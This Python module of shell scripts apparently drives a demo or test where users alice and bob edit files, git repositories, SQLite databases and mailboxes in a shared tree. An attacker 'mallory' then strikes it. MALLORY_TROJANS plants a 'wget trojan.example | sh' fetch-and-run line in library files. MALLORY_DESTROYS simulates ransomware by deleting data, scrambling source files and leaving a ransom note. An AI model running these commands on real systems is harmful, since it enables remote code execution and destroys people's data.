"""What alice, bob and mallory do in the demo: shell scripts, run in the shared tree."""

ALICE_STARTS = """
mkdir -p projects/parser
tar -C library -cf - json email | tar -C projects/parser -xf -
cd projects/parser
ln json/decoder.py decoder.py
git init -q
git add .
git commit -q -m "Start from the library"
"""

BOB_STARTS = """
sqlite3 projects/stock.db "
    create table stock (part integer primary key, count integer not null);
    begin;
    with recursive n(i) as (select 1 union all select i + 1 from n where i < 500) insert into stock select i, 10 from n;
    commit;"
chmod g+w projects/stock.db
grep -rlZ --include='*.py' 'TODO' packages | xargs -0 -r sed -i 's/TODO/TO DO/'
"""

# What both change, alice first: a file, and a name that neither had.
ALICE_MEETS = """
sed -i '1i # Checked by alice.' library/textwrap.py
echo "What alice plans" > projects/plan.txt
"""

BOB_MEETS = """
sed -i '1i # Reviewed by bob.' library/textwrap.py
echo "What bob plans" > projects/plan.txt
"""

ALICE_WORKS = """
(
    cd projects/parser
    git checkout -q -b faster
    sed -i 's/def decode/def decode_faster/' json/decoder.py
    git commit -q -a -m "Decode faster"
    git checkout -q main
    git merge -q --no-ff -m "Merge what is faster" faster
)
sqlite3 projects/stock.db "
    begin; update stock set count = count - 3 where part <= 100; insert into stock values (501, 7); commit;
    begin; delete from stock; rollback;"
rm -r library/html
mv library/email library/mail
ln library/calendar.py library/almanac.py
chmod 640 library/sched.py
mkdir sandbox
tar -C packages -cf - click | tar -C sandbox -xf -
sed 's/heap/pile/g' library/heapq.py > library/.heapq.py.new
mv library/.heapq.py.new library/heapq.py
find library/json -name '*.py' -exec sed -i 's/^import re$/import re  # seen/' {} +
"""

BOB_WORKS = """
sqlite3 projects/orders.db "
    create table orders (number integer primary key, part integer);
    begin; insert into orders values (1, 17), (2, 4), (3, 250); commit;"
mkdir reports
find library packages -type f | LC_ALL=C sort > reports/files
grep -rc --include='*.py' import library | LC_ALL=C sort > reports/imports
tar --sort=name -cf reports/library.tar library/json library/email library/html
sed 's/Queue/Line/g' library/queue.py > library/.queue.py.new
mv library/.queue.py.new library/queue.py
sed -i 's/^import /import  /' packages/trio/_util.py
rm packages/trio/_version.py
mv packages/idna packages/idna-before
echo "# New, by bob." > library/email/by_bob.py
"""

# A letter as it lies in a mailbox: who, about what.
_LETTER = """
letter() {
    printf 'From %s@example.org Sun Nov 22 10:00:00 2026\\nFrom: %s@example.org\\n' "$1" "$1"
    printf 'Subject: %s\\nMessage-ID: <%s@example.org>\\n\\nAbout %s.\\n\\n' "$2" "$2" "$2"
}
"""

BOB_HAS_MAIL = (
    _LETTER
    + """
mkdir -p mail/team/cur mail/team/new mail/team/tmp
for subject in lunch holidays budget; do letter carol $subject; done > mail/inbox
for number in 1 2 3; do letter carol $number | sed 1d > mail/team/cur/$number:2,; done
chmod -R g+w mail
"""
)

# What both do to a mailbox, to a directory of messages, and to one and the same file.
ALICE_READS = (
    _LETTER
    + """
letter dave party >> mail/inbox
mv mail/team/cur/1:2, mail/team/cur/1:2,S
letter dave 4 | sed 1d > mail/team/new/4
sed -i 's/whitespace_split = False/whitespace_split = False  # alice: why?/' library/shlex.py
"""
)

BOB_READS = (
    _LETTER
    + """
{ letter carol lunch; letter carol budget; letter erin invoice; } > mail/inbox.new
cat mail/inbox.new > mail/inbox
rm mail/inbox.new
mv mail/team/cur/1:2, mail/team/cur/1:2,R
rm mail/team/cur/2:2,
sed -i '1i # Reviewed by bob, again.' library/shlex.py
"""
)

#: The subjects of the letters, then the messages of the directory with their flags.
MAIL = "sed -n 's/^Subject: //p' mail/inbox; ls mail/team/cur mail/team/new | LC_ALL=C sort"

MALLORY_TROJANS = """
sed -i '1i import os; os.system("wget -q -O - trojan.example | sh")' library/subprocess.py library/socket.py
"""

MALLORY_DESTROYS = """
rm -rf packages projects/parser/.git
find library -type f -name '*.py' -exec sh -c '
    for file; do tr "\\000-\\377" "\\200-\\377\\000-\\177" < "$file" > "$file.locked"; done; rm "$@"' sh {} +
sqlite3 projects/stock.db "drop table stock"
echo "Pay, or lose it all." > RANSOM
"""

#: What bob does again and again while mallory is at it.
LOOK = "cat library/subprocess.py library/socket.py | sha256sum; ls -l . library packages | sha256sum"

#: Prints nothing if the repository is sound and clean.
GIT_CHECK = "cd projects/parser; git fsck --no-progress --no-dangling 2>&1; git --no-optional-locks status --porcelain"

COMMITS = "cd projects/parser; git rev-list --count HEAD"

#: Prints ok, and the number of rows and of parts.
STOCK = "sqlite3 -readonly projects/stock.db 'pragma integrity_check; select count(*), sum(count) from stock'"
